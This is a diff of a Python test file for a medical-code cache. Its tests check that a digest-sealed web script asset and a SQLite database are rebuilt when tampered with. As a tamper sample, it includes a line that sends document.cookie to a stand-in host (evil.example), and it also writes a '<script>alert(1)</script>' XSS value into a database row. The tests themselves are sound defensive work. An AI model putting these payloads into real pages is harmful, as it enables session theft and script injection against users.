@@ -111,7 +111,9 @@ def test_cache_file_named_by_release(cs, cache_dir):
     assert RELEASE == "2026-04"
     assert cs.path == cache_dir / "icd10cm-2026-04.sqlite"
     assert cs.path.is_file()
-    assert [p.name for p in cache_dir.iterdir()] == [cs.path.name]  # no temp files left
+    # no temp files left; the digest recorded when the file was made, checked at every open
+    assert sorted(p.name for p in cache_dir.iterdir() if not p.name.startswith("icd10cm-2026-04.web")) == [
+        cs.path.name, cs.path.name + ".digest"]
 
 
 def test_warm_cache_does_not_import_package(cs, cache_dir):
@@ -165,17 +167,74 @@ def test_web_asset_holds_every_code_and_a_leaf_is_a_code_no_other_extends(cs):
         assert rows[code] == (not extended), code
 
 
-def test_web_asset_is_kept_next_to_the_cache_and_made_again_when_missing(tmp_path, cache_dir):
+def _own_cache(tmp_path, cache_dir) -> Path:
     import shutil
     mine = tmp_path / "cache"
     mine.mkdir()
-    shutil.copy(cache_dir / f"icd10cm-{RELEASE}.sqlite", mine)
+    for name in (f"icd10cm-{RELEASE}.sqlite", f"icd10cm-{RELEASE}.sqlite.digest"):
+        shutil.copy(cache_dir / name, mine)
+    return mine
+
+
+def test_web_asset_is_kept_next_to_the_cache_and_made_again_when_missing(tmp_path, cs, cache_dir):
+    from metdocs.files.cache import unseal
+    mine = _own_cache(tmp_path, cache_dir)
     fresh = CodeSet(mine).web_asset()
-    kept = list(mine.glob(f"icd10cm-{RELEASE}.web*.js"))
-    assert len(kept) == 1 and kept[0].read_bytes() == fresh[1]
+    kept = list(mine.glob(f"icd10cm-{RELEASE}.web*"))
+    assert len(kept) == 1 and unseal(kept[0].read_bytes()) == fresh[1]
     assert CodeSet(mine).web_asset() == fresh  # read back
-    kept[0].write_bytes(b"/* stale */")
-    assert CodeSet(mine).web_asset()[1] == b"/* stale */", "the kept copy is what is served"
     kept[0].unlink()
-    assert CodeSet(mine).web_asset() == fresh and kept[0].read_bytes() == fresh[1]
-    assert not list(mine.glob(".web-*")), "no temporary file left behind"
+    assert CodeSet(mine).web_asset() == fresh and unseal(kept[0].read_bytes()) == fresh[1]
+    assert not list(mine.glob(".icd10cm-*")), "no temporary file left behind"
+
+
+TAMPERED = {
+    "a script appended": lambda b: b + b"\nfetch('https://evil.example/?'+document.cookie);\n",
+    "cut short": lambda b: b[: len(b) // 2],
+    "emptied": lambda b: b"",
+    "replaced by a stale copy": lambda b: b"/* stale */",
+    "a byte changed": lambda b: b[:-40] + bytes([b[-40] ^ 1]) + b[-39:],
+    "the unsealed script alone": lambda b: b[b.index(b"\n") + 1:],
+}
+
+
+@pytest.mark.parametrize("how", sorted(TAMPERED))
+def test_a_web_asset_not_as_it_was_made_is_made_again(tmp_path, cs, cache_dir, how):
+    """The cached code set is published as a script: bytes that are not the ones made (and
+    sealed with their digest) are never served, whatever was done to them."""
+    mine = _own_cache(tmp_path, cache_dir)
+    fresh = CodeSet(mine).web_asset()
+    kept, = mine.glob(f"icd10cm-{RELEASE}.web*")
+    kept.write_bytes(TAMPERED[how](kept.read_bytes()))
+    assert CodeSet(mine).web_asset() == fresh
+    assert CodeSet(mine).web_asset()[1] == fresh[1] and b"evil" not in kept.read_bytes()
+
+
+@pytest.mark.parametrize("how", ["a row changed", "its digest changed"])
+def test_a_sqlite_cache_not_as_it_was_made_is_made_again(tmp_path, cache_dir, cm, how):
+    mine = _own_cache(tmp_path, cache_dir)
+    path = mine / f"icd10cm-{RELEASE}.sqlite"
+    if how == "a row changed":
+        with sqlite3.connect(path) as conn:
+            conn.execute("UPDATE codes SET title = '<script>alert(1)</script>' WHERE code = 'M62.81'")
+    else:
+        (mine / f"icd10cm-{RELEASE}.sqlite.digest").write_text("0" * 64 + "\n")
+    assert CodeSet(mine).lookup("M62.81").title == "Muscle weakness (generalized)"
+
+
+@pytest.mark.parametrize("how", ["a script appended", "cut short"])
+def test_the_site_and_the_forms_zip_get_the_code_set_as_made_whatever_the_cache_holds(tmp_path, cs, cache_dir, how,
+                                                                                     shipped_forms, icd_catalog):
+    """The issue's case end to end: the cached copy is published into forms/ and into
+    metdocs-forms.zip; tampered with, it is made again before either gets it."""
+    import io
+    import zipfile
+    from metdocs.forms.sitefiles import ZIP_NAME, form_files
+    mine = _own_cache(tmp_path, cache_dir)
+    name, fresh = CodeSet(mine).web_asset()
+    kept, = mine.glob(f"icd10cm-{RELEASE}.web*")
+    kept.write_bytes(TAMPERED[how](kept.read_bytes()))
+    files = form_files(list(shipped_forms.values()), icd_catalog, icd=CodeSet(mine), assets=ROOT / "site_src" / "assets")
+    assert files[f"forms/{name}"] == fresh
+    with zipfile.ZipFile(io.BytesIO(files[f"forms/{ZIP_NAME}"])) as z:
+        assert z.read(name) == fresh
